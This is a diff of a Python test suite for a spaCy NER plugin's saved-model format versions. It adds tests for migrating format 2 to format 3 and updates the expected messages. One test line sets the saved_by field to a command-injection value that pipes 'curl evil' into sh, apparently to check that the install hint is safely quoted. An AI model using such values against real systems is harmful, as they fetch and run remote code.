@@ -15,13 +15,14 @@ import spacy
 import srsly
 from spacy.language import Language
 
+from spacy_ner_plus.models.storage.manifest import make_manifest
 from tests.pipeline.samples import (
     assert_same_weights,
     initialized_nlp,
     make_nlp,
     weights,
 )
-from tests.pipeline.tampering import change_json, copy_of, reseal
+from tests.pipeline.tampering import change_json, copy_of, reseal, to_format_2
 
 FORMAT_1 = Path(__file__).parent / "format_1"
 
@@ -50,7 +51,7 @@ def test_format_1_finds_what_it_found_then(caplog: pytest.LogCaptureFixture) -> 
     with caplog.at_level(logging.INFO, logger="spacy_ner_plus"):
         nlp = spacy.load(FORMAT_1)
     assert [record.getMessage() for record in caplog.records] == [
-        "The saved ner_plus model has format 1, that of this version is 2: it was read as it is. "
+        "The saved pipeline has format 1, that of this version is 3: it was read as it is. "
         "Save it again to have it checked on loading."
     ]
     assert_finds_what_0_1_0_found(nlp)
@@ -62,7 +63,7 @@ def test_format_1_saved_again_is_of_this_format(
     spacy.load(FORMAT_1).to_disk(tmp_path / "again")
     component = tmp_path / "again" / "ner_plus"
     for file in ("cfg", "manifest.json", "model/tagger.json"):
-        assert json.loads((component / file).read_text())["format"] == 2
+        assert json.loads((component / file).read_text())["format"] == 3
     caplog.clear()
     with caplog.at_level(logging.INFO, logger="spacy_ner_plus"):
         nlp = spacy.load(tmp_path / "again")
@@ -87,18 +88,57 @@ def test_format_1_with_a_file_missing(tmp_path: Path, missing: str) -> None:
         spacy.load(tmp_path / "copy")
 
 
+# Format 2: labels in cfg too
+
+
+def test_format_2_becomes_format_3(saved_dir: Path, component: Path, tmp_path: Path) -> None:
+    to_format_2(component)
+    assert json.loads((component / "cfg").read_text())["labels"] == ["Chemical", "Disease"]
+    nlp = spacy.load(component.parent)
+    nlp.to_disk(tmp_path / "again")
+    for file in ("cfg", "model/tagger.json", "model/weights.safetensors", "manifest.json"):
+        again = (tmp_path / "again" / "ner_plus" / file).read_bytes()
+        assert again == (saved_dir / "ner_plus" / file).read_bytes()
+
+
+def test_format_2_without_weights_keeps_its_labels(encoder_dir: Path, tmp_path: Path) -> None:
+    nlp = make_nlp(encoder_dir, tag_scheme="BIO")
+    nlp.get_pipe("ner_plus").add_label("Gene")
+    nlp.to_disk(tmp_path)
+    to_format_2(tmp_path / "ner_plus")
+    assert not list((tmp_path / "ner_plus" / "model").iterdir())
+    ner = spacy.load(tmp_path).get_pipe("ner_plus")
+    assert (ner.labels, ner.tagger.scheme.name) == (("Gene",), "BIO")
+    assert not ner.tagger.is_built
+
+
+def test_bytes_of_format_2(encoder_dir: Path) -> None:
+    ner = initialized_nlp(encoder_dir).get_pipe("ner_plus")
+    parts = srsly.msgpack_loads(ner.to_bytes(exclude=["vocab"]))
+    own = {"format": 2, "tag_scheme": "BILOU", "labels": ["Chemical", "Disease"], "balanced": {}}
+    parts["cfg"] = json.dumps(own).encode("utf8")
+    files = {f"model/{name}": content for name, content in parts["model"].items()}
+    parts["manifest"] = make_manifest({"cfg": parts["cfg"], **files})
+    again = make_nlp(encoder_dir).get_pipe("ner_plus").from_bytes(srsly.msgpack_dumps(parts))
+    assert again.labels == ner.labels and again.cfg == {"balanced": {}}
+    assert_same_weights(weights(again), weights(ner))
+
+
+# Other formats
+
+
 @pytest.mark.parametrize("file", ["manifest.json", "cfg", "model/tagger.json"])
 def test_newer_format_says_what_to_install(component: Path, file: str) -> None:
-    change_json(component / file, lambda content: content.update(format=3, saved_by="7.1.0"))
+    change_json(component / file, lambda content: content.update(format=4, saved_by="7.1.0"))
     if file != "manifest.json":
         reseal(component)
-    with pytest.raises(ValueError, match=r"has format 3.* reads formats up to 2.*\(pip install"):
+    with pytest.raises(ValueError, match=r"has format 4.* reads formats up to 3.*\(pip install"):
         spacy.load(component.parent)
 
 
 def test_newer_format_names_the_version_that_saved_it(component: Path) -> None:
     path = component / "manifest.json"
-    change_json(path, lambda content: content.update(format=3, saved_by="7.1.0"))
+    change_json(path, lambda content: content.update(format=4, saved_by="7.1.0"))
     with pytest.raises(ValueError, match=r'pip install "spacy_ner_plus>=7\.1\.0"'):
         spacy.load(component.parent)
     change_json(path, lambda content: content.update(saved_by='1" && curl evil | sh #'))
@@ -116,7 +156,7 @@ def test_format_that_is_no_number(component: Path, number: Any) -> None:
 
 
 @pytest.mark.parametrize("exclude", [[], ["cfg"]])
-def test_format_2_needs_its_manifest(
+def test_format_3_needs_its_manifest(
     component: Path, encoder_dir: Path, exclude: list[str]
 ) -> None:
     (component / "manifest.json").unlink()
@@ -127,7 +167,7 @@ def test_format_2_needs_its_manifest(
 
 
 @pytest.mark.parametrize("exclude", [[], ["cfg"]])
-def test_bytes_of_format_2_need_their_manifest(encoder_dir: Path, exclude: list[str]) -> None:
+def test_bytes_of_format_3_need_their_manifest(encoder_dir: Path, exclude: list[str]) -> None:
     parts = srsly.msgpack_loads(initialized_nlp(encoder_dir).get_pipe("ner_plus").to_bytes())
     del parts["manifest"]
     ner = make_nlp(encoder_dir).get_pipe("ner_plus")
